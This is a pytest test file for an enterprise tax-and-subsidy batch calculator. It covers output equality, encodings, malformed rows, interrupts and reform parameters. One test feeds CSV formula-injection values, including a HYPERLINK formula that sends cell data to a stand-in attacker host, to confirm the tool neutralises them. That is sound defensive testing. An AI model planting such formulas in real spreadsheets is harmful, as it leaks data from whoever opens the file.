"""`xzcalc batch` (xzcalc/batch.py): every row out, in order, equal to `calc`; encodings; errors; interrupts.

Also the core hot paths the batch made faster (money formatting, flat profile parsing, the eligible-only
memo): each is checked against the plain form it replaced.
"""

from __future__ import annotations

import csv
import importlib.util
import io
import json
import random
import signal
import subprocess
import sys
import time
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from xzcalc.batch import RowEngine, compute_row, detect_encoding, layout, neutralise, run
from xzcalc.batch.io import csv_field
from xzcalc.engine import calculate
from xzcalc.money import fmt_num, parse_decimal
from xzcalc.schema.build import parse_profile, profile_from_flat
from xzcalc.schema.paths import set_path
from xzcalc.schema.profile import ProfileError
from xzcalc.schema.template import csv_header
from xzcalc.views.machine import result_json

ROOT = Path(__file__).resolve().parent.parent
EXAMPLE = ROOT / "data" / "examples" / "enterprises.csv"
XZCALC = [sys.executable, "-m", "xzcalc"]


def _generator() -> Any:
    spec = importlib.util.spec_from_file_location("bench_generate", ROOT / "bench" / "generate.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


GEN = _generator()
COLUMNS = csv_header().strip().split(",")


def write_csv(
    path: Path, rows: list[dict[str, str]], *, encoding: str = "utf-8", columns: list[str] | None = None
) -> Path:
    columns = columns or COLUMNS
    with path.open("w", encoding=encoding, newline="") as f:
        writer = csv.DictWriter(f, columns, lineterminator="\n")
        writer.writeheader()
        writer.writerows(rows)
    return path


def generated(n: int, seed: int = 7) -> list[dict[str, str]]:
    return list(GEN.rows(n, seed))


def xzcalc(*args: str, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    return subprocess.run([*XZCALC, *args], capture_output=True, text=True, timeout=timeout, cwd=ROOT)


def read_out(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as f:
        return list(csv.DictReader(f))


# ── every row equals calc ───────────────────────────────────────────────────────────────────────────────────


def test_each_batch_row_equals_the_calc_json(tmp_path: Path) -> None:
    rows = generated(300)
    src = write_csv(tmp_path / "in.csv", rows)
    out = tmp_path / "out.jsonl"
    report = run(str(src), str(out), jobs=2, chunk_rows=37)
    assert report.summary.rows == 300 and report.summary.failed == 0
    records = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    assert [r["id"] for r in records] == [r["id"] for r in rows]  # input order
    for row, record in zip(rows, records, strict=True):
        cells = {k: v for k, v in row.items() if v and k != "id"}
        expected = result_json(calculate(profile_from_flat(cells)))
        assert record["error"] is None
        assert record["name"] == expected["profile"]["name"]
        assert record["jurisdiction"] == expected["jurisdiction"] and record["year"] == expected["year"]
        for name, value in expected["classification"].items():  # (the CSV's text: true/false, a class)
            assert record[f"classification.{name}"] == (None if value is None else str(value).lower())
        for kind, total in expected["totals"].items():
            assert record[f"total.{kind}"] == total
        for item in expected["items"]:
            assert record[f"{item['policy']}.eligible"] is item["eligible"]
            if item["amount"] is not None:
                assert record[f"{item['policy']}.amount"] == item["amount"]
        assert list(record) == layout().columns()


def test_csv_columns_carry_the_same_values(tmp_path: Path) -> None:
    rows = generated(60, seed=3)
    src = write_csv(tmp_path / "in.csv", rows)
    out = tmp_path / "out.csv"
    run(str(src), str(out), jobs=1)
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with BOM, for Excel
    got = read_out(out)
    assert list(got[0]) == layout().columns()
    for row, line in zip(rows, got, strict=True):
        expected = result_json(calculate(profile_from_flat({k: v for k, v in row.items() if v and k != "id"})))
        assert line["id"] == row["id"] and line["error"] == ""
        for kind, amount in expected["totals"].items():
            assert line[f"total.{kind}"] == amount
        for name, value in expected["classification"].items():
            assert line[f"classification.{name}"] == ("" if value is None else str(value).lower())
        for item in expected["items"]:
            assert line[f"{item['policy']}.eligible"] == str(item["eligible"]).lower()
            if item["amount"] is not None:
                assert line[f"{item['policy']}.amount"] == item["amount"]


def test_compute_row_is_pure_and_picklable() -> None:
    import pickle

    row = generated(1)[0]
    engine = pickle.loads(pickle.dumps(RowEngine()))
    assert engine.compute(row, 2) == compute_row(row, line=2)
    assert compute_row(row).error == ""


# ── --jobs, chunks: byte-identical ──────────────────────────────────────────────────────────────────────────


@pytest.mark.parametrize("suffix", [".csv", ".jsonl"])
def test_jobs_1_and_2_are_byte_identical(tmp_path: Path, suffix: str) -> None:
    rows = generated(250, seed=11)
    rows[17]["revenue"] = "lots"  # an error row among them
    src = write_csv(tmp_path / "in.csv", rows)
    outputs = []
    for jobs, chunk in ((1, 1000), (2, 7), (2, 1000), (3, 1)):
        out = tmp_path / f"out-{jobs}-{chunk}{suffix}"
        run(str(src), str(out), jobs=jobs, chunk_rows=chunk)
        outputs.append(out.read_bytes())
    assert all(o == outputs[0] for o in outputs)


# ── malformed rows: their own output row, exit 1 ────────────────────────────────────────────────────────────


def test_malformed_rows_are_reported_and_the_rest_computed(tmp_path: Path) -> None:
    rows = generated(40, seed=5)
    rows[3]["vat.sales_3pct.2"] = "12万五"
    rows[20]["equipment.1.years"] = "7"
    rows[31]["jurisdiction"] = "beijing"
    src = write_csv(tmp_path / "in.csv", rows)
    out = tmp_path / "out.csv"
    summary = tmp_path / "summary.json"
    done = xzcalc("batch", str(src), "-o", str(out), "--summary", str(summary), "--jobs", "2")
    assert done.returncode == 1, done.stderr
    got = read_out(out)
    assert [g["id"] for g in got] == [r["id"] for r in rows]
    errors = {g["id"]: g["error"] for g in got if g["error"]}
    assert set(errors) == {rows[3]["id"], rows[20]["id"], rows[31]["id"]}
    assert errors[rows[3]["id"]].startswith('vat.sales_3pct.2: "12万五" is not valid')
    assert (
        errors[rows[20]["id"]].startswith("equipment.1.years: 7 is not valid")
        or "equipment.1.years" in errors[rows[20]["id"]]
    )
    assert '"beijing"' in errors[rows[31]["id"]] and errors[rows[31]["id"]].startswith("jurisdiction")
    assert got[3]["line"] == "5"  # header is line 1, the fourth enterprise line 5
    data = json.loads(summary.read_text(encoding="utf-8"))
    assert data["rows"] == 40 and data["failed"] == 3
    assert {e["id"] for e in data["errors"]} == set(errors)
    assert "失败: 3" in done.stderr


def test_ragged_rows_blank_lines_and_multiline_cells(tmp_path: Path) -> None:
    text = (
        "id,name,employees,revenue,\n"  # a trailing blank-named column (a spreadsheet's)
        'A1,"忻州""鑫华""\n机械有限公司",120,800万,\n'  # quotes and a line break inside a cell
        "\n"  # a blank line: no enterprise
        "A2,晋元商贸,12,300万,,\n"  # one cell too many, but empty: fine
        "A3,呼和浩特顺达,5,100万,x\n"  # a value under the blank-named column
        "A4,太原恒盛,5,100万,,oops\n"  # more cells than columns
    )
    src = tmp_path / "in.csv"
    src.write_text(text, encoding="utf-8")
    for chunk in (1, 1000):
        out = tmp_path / f"out{chunk}.csv"
        report = run(str(src), str(out), jobs=1, chunk_rows=chunk)
        got = read_out(out)
        assert [(g["line"], g["id"]) for g in got] == [("2", "A1"), ("5", "A2"), ("6", "A3"), ("7", "A4")]
        assert got[0]["name"] == '忻州"鑫华"\n机械有限公司' and got[0]["error"] == ""
        assert got[1]["error"] == ""
        assert got[2]["error"].startswith('column 5 has no name in the header but holds "x"')
        assert "6 cells but the header has 5 columns" in got[3]["error"]
        assert report.summary.failed == 2


# ── the header: unknown and duplicated columns refused up front ─────────────────────────────────────────────


def test_unknown_and_duplicated_columns_exit_2(tmp_path: Path) -> None:
    src = tmp_path / "in.csv"
    src.write_text("id,name,revnue,name,vat.sales_3pct.13\nA,B,1,C,2\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    done = xzcalc("batch", str(src), "-o", str(out))
    assert done.returncode == 2
    message = done.stderr.strip()
    lines = message.splitlines()  # a short list, one problem a line (issue 12 §2), never one long line
    assert lines[0].startswith("xzcalc: error: the header has 2 columns that are not a profile field")
    assert "xzcalc template --format csv" in lines[0] and "--keep COL" in lines[0]
    assert "  unknown column 'revnue' — did you mean 'revenue'?" in lines
    assert "  unknown column 'vat.sales_3pct.13' — expected vat.sales_3pct.N with N from 1 to 12" in message
    assert "  duplicated column 'name'" in lines
    assert all(len(line) < 200 for line in lines)
    assert "Traceback" not in done.stderr
    assert not out.exists() and not list(tmp_path.glob(".out.csv*"))


def test_unusable_arguments_exit_2(tmp_path: Path) -> None:
    assert xzcalc("batch", str(tmp_path / "missing.csv")).returncode == 2
    src = write_csv(tmp_path / "in.csv", generated(2))
    done = xzcalc("batch", str(src), "-o", str(tmp_path / "out.xls"))
    assert done.returncode == 2 and "none of .csv, .jsonl, .xlsx" in done.stderr
    done = xzcalc("batch", str(src), "--encoding", "klingon")
    assert done.returncode == 2 and "--encoding" in done.stderr
    bad = tmp_path / "bad.toml"
    bad.write_text("[no.such.parameter]\nvalue = 1\n", encoding="utf-8")
    done = xzcalc("batch", str(src), "--params", str(bad))
    assert done.returncode == 2 and "no.such.parameter" in done.stderr


# ── real files: encodings, formula injection ────────────────────────────────────────────────────────────────


def test_gb18030_with_chinese_names_and_an_injected_formula_round_trips(tmp_path: Path) -> None:
    rows = generated(30, seed=9)
    rows[0]["name"] = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    rows[1]["name"] = "@SUM(1+1)"
    rows[2]["name"] = "+86忻州"
    rows[3]["id"] = "-1500"
    rows[4]["name"] = "忻州市繁峙县鑫磊矿业有限责任公司"
    src = write_csv(tmp_path / "gbk.csv", rows, encoding="gb18030")
    assert detect_encoding(src.read_bytes()) == "gb18030"
    out = tmp_path / "out.csv"
    done = xzcalc("batch", str(src), "-o", str(out), "-q")
    assert done.returncode == 0, done.stderr
    got = read_out(out)
    assert got[0]["name"] == "'" + rows[0]["name"]
    assert got[1]["name"] == "'@SUM(1+1)" and got[2]["name"] == "'+86忻州"
    assert got[3]["id"] == "'-1500"
    assert got[4]["name"] == "忻州市繁峙县鑫磊矿业有限责任公司"
    assert all(g["name"] == r["name"] for g, r in zip(got[5:], rows[5:], strict=True))
    # amounts are numbers, never neutralised; a loss-making enterprise still reads as numbers
    amount_columns = [c for c in got[0] if c.endswith(".amount") or c.startswith("total.")]
    assert all(not g[c].startswith("'") for g in got for c in amount_columns)
    # JSONL keeps the exact text (no spreadsheet reads it)
    jsonl = tmp_path / "out.jsonl"
    run(str(src), str(jsonl), jobs=1)
    assert json.loads(jsonl.read_text(encoding="utf-8").splitlines()[0])["name"] == rows[0]["name"]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
def test_encodings_detected(tmp_path: Path, encoding: str) -> None:
    rows = generated(5, seed=2)
    src = write_csv(tmp_path / "in.csv", rows, encoding=encoding)
    out = tmp_path / "out.csv"
    report = run(str(src), str(out), jobs=1)
    assert report.summary.failed == 0
    assert [g["name"] for g in read_out(out)] == [r["name"] for r in rows]


def test_encoding_detected_after_a_long_ascii_start(tmp_path: Path) -> None:
    rows = generated(6000, seed=4)
    for r in rows[:5900]:  # the first megabyte all ASCII: names in pinyin, amounts in digits
        for key, value in r.items():
            if not value.isascii():
                r[key] = str(int(value[:-1]) * 10_000) if value.endswith("万") else {"是": "yes"}.get(value, "pinyin")
    src = write_csv(tmp_path / "in.csv", rows, encoding="gb18030")
    assert src.read_bytes()[: 1 << 20].isascii()
    report = run(str(src), str(tmp_path / "out.csv"), jobs=1)
    assert report.encoding == "gb18030" and report.summary.failed == 0


def test_neutralise() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("-x") == "'-x" and neutralise("\t=x") == "'\t=x"
    assert neutralise("忻州") == "忻州" and neutralise("") == ""


# ── interruption: nothing under the output name ─────────────────────────────────────────────────────────────


def test_sigint_leaves_no_output_file(tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", generated(20000, seed=1))
    out = tmp_path / "out.csv"
    proc = subprocess.Popen(
        [*XZCALC, "batch", str(src), "-o", str(out), "--jobs", "2", "-q"],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    deadline = time.monotonic() + 60
    while not list(tmp_path.glob(".out.csv.*.part")) and time.monotonic() < deadline:
        time.sleep(0.05)
    time.sleep(0.5)  # rows are being computed and written to the temporary file
    assert proc.poll() is None, "the batch finished before it could be interrupted"
    proc.send_signal(signal.SIGINT)
    _, stderr = proc.communicate(timeout=60)
    assert proc.returncode == 130
    assert "interrupted" in stderr and "Traceback" not in stderr
    assert not out.exists()
    assert list(tmp_path.iterdir()) == [src]  # the temporary file is gone too


def test_sigterm_leaves_no_output_file(tmp_path: Path) -> None:
    src = write_csv(tmp_path / "in.csv", generated(20000, seed=1))
    out = tmp_path / "out.jsonl"
    proc = subprocess.Popen(
        [*XZCALC, "batch", str(src), "-o", str(out), "--jobs", "1", "-q"], cwd=ROOT, stderr=subprocess.PIPE
    )
    deadline = time.monotonic() + 60
    while not list(tmp_path.glob(".out.jsonl.*.part")) and time.monotonic() < deadline:
        time.sleep(0.05)
    proc.send_signal(signal.SIGTERM)
    proc.communicate(timeout=60)
    assert proc.returncode == 130
    assert list(tmp_path.iterdir()) == [src]


# ── the summary, --params, stdout ───────────────────────────────────────────────────────────────────────────


def test_summary_counts_and_totals(tmp_path: Path) -> None:
    rows = generated(80, seed=13)
    src = write_csv(tmp_path / "in.csv", rows)
    report = run(str(src), str(tmp_path / "out.jsonl"), jobs=2, chunk_rows=10)
    results = [calculate(profile_from_flat({k: v for k, v in r.items() if v and k != "id"})) for r in rows]
    for kind in report.summary.totals:
        assert report.summary.totals[kind] == sum((r.totals[kind] for r in results), Decimal(0))
    for pid in ("cit.small_low_profit", "vat.small_scale_exemption", "eo.ui_rate_reduction"):
        assert report.summary.eligible.get(pid, 0) == sum(
            1 for r in results for it in r.items if it.policy.id == pid and it.eligible
        )
    data = report.to_json()
    assert data["rows"] == 80 and data["failed"] == 0 and set(data["eligible"]) >= {"cit.small_low_profit"}


def test_params_reform_applies_to_every_row(tmp_path: Path) -> None:
    rows = [{"id": "1", "name": "忻州测试", "income.taxable_income": "200万", "employees": "50"}]
    src = write_csv(tmp_path / "in.csv", rows, columns=["id", "name", "income.taxable_income", "employees"])
    reform = tmp_path / "reform.toml"
    reform.write_text("[cit.rate]\nvalue = 0.2\n", encoding="utf-8")
    base = xzcalc("batch", str(src), "-f", "jsonl", "-q")
    changed = xzcalc("batch", str(src), "-f", "jsonl", "-q", "--params", str(reform))
    assert base.returncode == 0 and changed.returncode == 0, changed.stderr
    before, after = json.loads(base.stdout), json.loads(changed.stdout)
    assert before["total.tax_reduction"] != after["total.tax_reduction"]


def test_the_summary_names_the_reform_applied(tmp_path: Path) -> None:
    """--params: the terminal summary and the --summary JSON name the reform file and each parameter it changes
    (with the value it gives); without one, no such line and "reform": null."""
    rows = [{"id": "1", "name": "忻州测试", "income.taxable_income": "200万", "employees": "50"}]
    src = write_csv(tmp_path / "in.csv", rows, columns=["id", "name", "income.taxable_income", "employees"])
    reform = tmp_path / "reform.toml"
    reform.write_text(
        "[cit.rate]\nvalue = 0.2\n\n[subsidy.first_set_equipment.cap]\n"
        "values = [{ from = 2022-01-01, until = 2022-12-31, value = 500000 }]\n",
        encoding="utf-8",
    )
    for lang, word in (("zh", "参数改革"), ("en", "reform")):
        done = xzcalc("batch", str(src), "-o", str(tmp_path / "o.csv"), "--params", str(reform), "--lang", lang,
                      "--summary", str(tmp_path / "s.json"))  # fmt: skip
        assert done.returncode == 0, done.stderr
        said = " ".join(done.stderr.split())  # (wrapped to the terminal's width)
        assert (
            f"{word} (--params reform.toml): cit.rate = 0.2; "
            "subsidy.first_set_equipment.cap = 2022-01-01..2022-12-31: 500000"
        ) in said, done.stderr
    data = json.loads((tmp_path / "s.json").read_text(encoding="utf-8"))
    assert data["reform"] == {
        "file": "reform.toml",
        "parameters": {"cit.rate": "0.2", "subsidy.first_set_equipment.cap": "2022-01-01..2022-12-31: 500000"},
    }
    done = xzcalc("batch", str(src), "-o", str(tmp_path / "o.csv"), "--summary", str(tmp_path / "s.json"))
    assert "--params" not in done.stderr
    assert json.loads((tmp_path / "s.json").read_text(encoding="utf-8"))["reform"] is None


def test_first_set_cap_reform_changes_exactly_that_item_in_batch(tmp_path: Path) -> None:
    """Issue 5: a reform raising the first-set cap (忻政办发〔2022〕34号 第46条) to 500,000 changes, in every row,
    the first-set item (10% × 6,000,000 = 600,000 → capped 300,000, then 500,000) and the subsidy total only."""
    columns = ["id", "jurisdiction", "sector", "employees", "first_set.1.price", "income.taxable_income"]
    rows = [
        {
            "id": "A",
            "jurisdiction": "xinzhou",
            "sector": "C34",
            "employees": "80",
            "first_set.1.price": "600万",
            "income.taxable_income": "150万",
        },
        {
            "id": "B",
            "jurisdiction": "xinzhou",
            "sector": "C35",
            "employees": "400",
            "first_set.1.price": "900万",
            "income.taxable_income": "500万",
        },
    ]
    src = write_csv(tmp_path / "in.csv", rows, columns=columns)
    reform = tmp_path / "first_set_500k.toml"
    reform.write_text("[subsidy.first_set_equipment.cap]\nvalue = 500000\n", encoding="utf-8")
    base = xzcalc("batch", str(src), "-f", "jsonl", "-q")
    changed = xzcalc("batch", str(src), "-f", "jsonl", "-q", "--params", str(reform))
    assert base.returncode == 0 and changed.returncode == 0, changed.stderr
    for before_line, after_line in zip(base.stdout.splitlines(), changed.stdout.splitlines(), strict=True):
        before, after = json.loads(before_line), json.loads(after_line)
        amounts_before = {k.removesuffix(".amount"): v for k, v in before.items() if k.endswith(".amount")}
        amounts_after = {k.removesuffix(".amount"): v for k, v in after.items() if k.endswith(".amount")}
        differing = {pid for pid in amounts_before if amounts_before[pid] != amounts_after[pid]}
        assert differing == {"subsidy.first_set_equipment"}, before["id"]
        assert (amounts_before["subsidy.first_set_equipment"], amounts_after["subsidy.first_set_equipment"]) == (
            "300000.00",
            "500000.00",
        )
        assert Decimal(after["total.subsidy"]) - Decimal(before["total.subsidy"]) == 200000
        assert {k: v for k, v in after.items() if k.startswith("total.") and k != "total.subsidy"} == {
            k: v for k, v in before.items() if k.startswith("total.") and k != "total.subsidy"
        }


def test_stdin_to_stdout(tmp_path: Path) -> None:
    rows = generated(5, seed=21)
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, COLUMNS, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    done = subprocess.run(
        [*XZCALC, "batch", "-", "-o", "-"],
        input=buffer.getvalue().encode("gb18030"),
        capture_output=True,
        cwd=ROOT,
        timeout=60,
    )
    assert done.returncode == 0, done.stderr
    text = done.stdout.decode("utf-8")
    assert not text.startswith("\ufeff")  # no BOM on a pipe
    got = list(csv.DictReader(io.StringIO(text)))
    assert [g["name"] for g in got] == [r["name"] for r in rows]
    assert "行数: 5" in done.stderr.decode("utf-8")  # the summary on stderr


def test_bundled_example(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    done = xzcalc("batch", str(EXAMPLE), "-o", str(out))
    assert done.returncode == 1  # the example has one deliberately bad row
    got = read_out(out)
    bad = [g for g in got if g["error"]]
    assert len(got) >= 20 and len(bad) == 1
    assert {g["jurisdiction"] for g in got if not g["error"]} == {"xinzhou", "shanxi", "inner-mongolia"}


# ── the core hot paths the batch made faster, against their plain forms ─────────────────────────────────────


def _fmt_num_reference(value: Decimal | int) -> str:
    d = Decimal(value)
    if d == d.to_integral_value():
        return f"{int(d):,}"
    text = f"{d.normalize():f}"
    whole, _, frac = text.partition(".")
    sign = "-" if whole.startswith("-") else ""
    return f"{sign}{int(whole.lstrip('-') or 0):,}.{frac}"


def test_fmt_num_matches_its_reference() -> None:
    rng = random.Random(5)
    values: list[Decimal | int] = [
        Decimal("1E+3"),
        Decimal("-0.00"),
        Decimal("0E-7"),
        Decimal("-0.5"),
        25,
        0,
        -3,
    ]
    for _ in range(5000):
        values.append(Decimal(rng.randint(-(10**15), 10**15)).scaleb(-rng.randint(-3, 12)))
    for v in values:
        assert fmt_num(v) == _fmt_num_reference(v), v


def test_parse_decimal_fast_path_matches_the_general_path() -> None:
    for text in ["0", "7", "007", "43680000", "999999999999999", "1000000000000000", "１２", "12 ", "1e3"]:
        try:
            fast = parse_decimal(text)
        except ValueError:
            fast = None
        try:
            general = parse_decimal(" " + text)  # a leading space takes the general path
        except ValueError:
            general = None
        assert fast == general and str(fast) == str(general), text


def test_profile_from_flat_matches_set_path() -> None:
    for row in generated(200, seed=17):
        cells = {k: v for k, v in row.items() if v and k != "id"}
        data: dict[str, Any] = {}
        for path, value in cells.items():
            set_path(data, path, value)
        assert profile_from_flat(cells) == parse_profile(data)
    with pytest.raises(ProfileError) as e:
        profile_from_flat({"vat.sales_3pct.9": "1"})
    assert e.value.path == "vat.sales_3pct.9"


@given(st.lists(st.text(alphabet=st.sampled_from('ab,"\r\n \t=忻州\u2028'), max_size=8), min_size=2, max_size=6))
def test_output_fields_are_quoted_as_csv_writer_quotes_them(fields: list[str]) -> None:
    """The batch joins its CSV lines itself (csv.writer was a tenth of a row): the same text, byte for byte, as
    csv.writer quotes it when a CR is a line break too (with "\n" line ends it leaves a bare CR unquoted, and a
    reader splits the row there: issue 14)."""
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n").writerow(fields)
    assert ",".join(map(csv_field, fields)) + "\r\n" == expected.getvalue()
    assert next(csv.reader(io.StringIO(",".join(map(csv_field, fields)) + "\n"))) == fields
